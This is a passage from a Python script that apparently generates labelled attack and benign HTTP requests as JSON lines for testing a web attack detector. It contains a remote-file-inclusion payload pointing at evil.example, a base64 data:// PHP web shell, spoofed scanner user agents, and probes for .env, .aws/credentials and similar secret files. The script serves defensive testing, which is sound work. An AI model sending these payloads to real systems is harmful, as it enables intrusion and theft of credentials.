    rec("rfi", "wiki-include-macro", "PUT", "/rest/api/content/%d" % R.randint(10000, 99999), H("wiki", None, basic("mallory"), "application/json"),
        json.dumps({"type": "page", "title": "x", "body": {"storage": {"representation": "storage",
                   "value": '<ac:structured-macro ac:name="include"><ac:parameter ac:name="url">http://evil.example/inc.php?</ac:parameter></ac:structured-macro>'}}}))
    rec("rfi", "data-wrapper", "GET", "/index.php?" + qs([("file", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==")]), H("dav"))
    for ua in ["sqlmap/1.8#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
               "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]:
        rec("generic", "scanner-ua", "PROPFIND", "/remote.php/webdav/", [["Host", "cloud.example.com"], ["User-Agent", ua], ["Depth", "1"]])
    for p in ["/.env", "/.git/config", "/.aws/credentials", "/backup.sql", "/config/config.php.bak"]:
        rec("generic", "sensitive-file-probe", "GET", p, [["Host", pick(HOSTS["dav"] + HOSTS["s3"])], ["User-Agent", "curl/8.5.0"]])


# ------------------------------------------------------------------ main

def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: %s attacks|benign\n" % argv[0])
        return 2
    for fn in (ATTACKS if argv[1] == "attacks" else BENIGN):
        fn()
    seen = set()
    out = sys.stdout
    for r in OUT:
        assert r["id"] not in seen, r["id"]
        seen.add(r["id"])
        out.write(json.dumps(r, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
